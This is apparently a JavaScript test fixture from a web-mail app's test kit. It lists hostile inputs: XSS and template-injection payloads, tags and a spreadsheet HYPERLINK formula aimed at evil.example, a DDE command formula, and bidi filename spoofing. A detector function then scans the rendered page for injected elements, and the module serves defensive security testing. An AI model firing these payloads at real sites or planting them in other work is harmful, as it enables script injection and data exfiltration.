// Texts that somebody would like to be more than text. `__hit` counts (kit/page.mjs).
export const texts = [
  '<script>__hit()</script>',
  '<img src=x onerror=__hit()>',
  '"><svg onload=__hit()>',
  "'-__hit()-'",
  'javascript:__hit()',
  '[read me](javascript:__hit())',
  '<a href="javascript:__hit()" onmouseover=__hit()>x</a>',
  '{{constructor.constructor("__hit()")()}}',
  '${__hit()}',
  '<%= __hit() %>',
  '<iframe srcdoc="<script>parent.__hit()</script>"></iframe>',
  '<math><mi xlink:href="data:x,<script>__hit()</script>">',
  '</textarea></title></style><script>__hit()</script>',
  '<style>*{display:none!important}</style>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '&lt;script&gt;__hit()&lt;/script&gt;',
  '%3Cscript%3E__hit()%3C/script%3E',
  '\\u003cscript\\u003e__hit()\\u003c/script\\u003e',
  ']]><script>__hit()</script>',
  '__proto__',
  'constructor',
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*2',
  '+1+1',
  '-2+3',
  '\u202egnp.exe\u202c',
  '\u2066isolated\u2069 \u200bzero width',
  'a\u0000b',
  '\u001b[31mred\u001b[0m',
  '😀'.repeat(60),
  'x'.repeat(480),
  'long words '.repeat(40).trim(),
];

// What the page made of them: elements and addresses that no page of ours has.
export function foreign(page) {
  return page.evaluate(() => {
    const found = [];
    // The preview of a mail has no rights of any kind.
    for (const one of document.querySelectorAll('iframe:not(.ch-mail[sandbox=""]), object, embed, base, math, meta[http-equiv], form[action]')) found.push(one.outerHTML.slice(0, 120));
    for (const one of document.querySelectorAll('script')) if (!one.src.startsWith(location.origin)) found.push(`script ${one.outerHTML.slice(0, 120)}`);
    for (const one of document.querySelectorAll('link')) if (!one.href.startsWith(location.origin)) found.push(`link ${one.href}`);
    for (const one of document.querySelectorAll('a[href]')) if (!/^https?:$/.test(new URL(one.href).protocol) || new URL(one.href).origin !== location.origin) found.push(`a ${one.href}`);
    for (const one of document.querySelectorAll('*')) for (const attribute of one.attributes) if (/^on/i.test(attribute.name)) found.push(`${one.tagName} ${attribute.name}`);
    return found;
  });
}
